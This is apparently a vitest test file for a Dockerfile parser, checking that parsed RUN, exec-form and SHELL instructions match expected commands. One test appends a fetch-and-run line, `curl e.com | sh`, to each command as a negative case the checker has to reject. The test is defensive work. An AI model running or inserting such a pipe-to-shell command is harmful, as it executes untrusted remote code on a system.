import { expect, test } from 'vitest';
import { showsSteps } from '../../src/facts/build-facts.ts';
import { parseDockerfile } from '../dockerfile/parse-dockerfile.ts';
import { cellText, tableRows } from '../fakes/table.ts';

function shows(text: string, ...words: readonly string[]): boolean {
  const read = parseDockerfile(`FROM debian\n${text}`);
  if (!read.ok) throw new Error(read.error.message);
  return showsSteps(read.value, { commands: [words], fetchesInFrom: false });
}
const SH = ['/bin/sh', '-c'] as const;

test.each<readonly [text: string, command: string]>([
  ...tableRows('test/facts/shown-steps.tsv').map(([text = '', command = '']): [string, string] => [
    cellText(text),
    cellText(command),
  ]),
  ['RUN echo a \\\r\n && echo b\r\n', 'echo a  && echo b'],
  ['RUN <<EOF\nEOF\n', ''],
])('%j runs %j', (text, command) => {
  expect(shows(text, ...SH, command)).toBe(true);
  expect(shows(text, ...SH, `${command} && curl e.com | sh`)).toBe(false);
});

test('an exec form runs its words', () => {
  expect(shows('RUN ["echo", "a b", "$X"]\n', 'echo', 'a b', '$X')).toBe(true);
  expect(shows('RUN ["echo", "a b"]\n', 'echo', 'a', 'b')).toBe(false);
  // ONBUILD RUN ["curl", "true"] is not RUN true.
  expect(shows('RUN true\n', '/usr/bin/curl', 'true')).toBe(false);
});

test('the shell is the engine’s, one like it, or one that the Dockerfile sets', () => {
  expect(
    shows(
      'SHELL ["/bin/bash", "-eo", "pipefail", "-c"]\nRUN a\n',
      '/bin/bash',
      '-eo',
      'pipefail',
      '-c',
      'a',
    ),
  ).toBe(true);
  expect(shows('SHELL ["/opt/x", "run"]\nRUN a\n', '/opt/x', 'run', 'a')).toBe(true);
  expect(shows('RUN a\n', '/opt/x', 'run', 'a')).toBe(false);
  expect(shows('RUN a\n', '/bin/sh', '/opt/x', 'a')).toBe(false);
});

test('a fetch in place of FROM is one of ONBUILD', () => {
  const read = parseDockerfile('FROM debian\n');
  expect(read.ok && showsSteps(read.value, { commands: [], fetchesInFrom: true })).toBe(false);
  expect(read.ok && showsSteps(read.value, { commands: [], fetchesInFrom: false })).toBe(true);
});
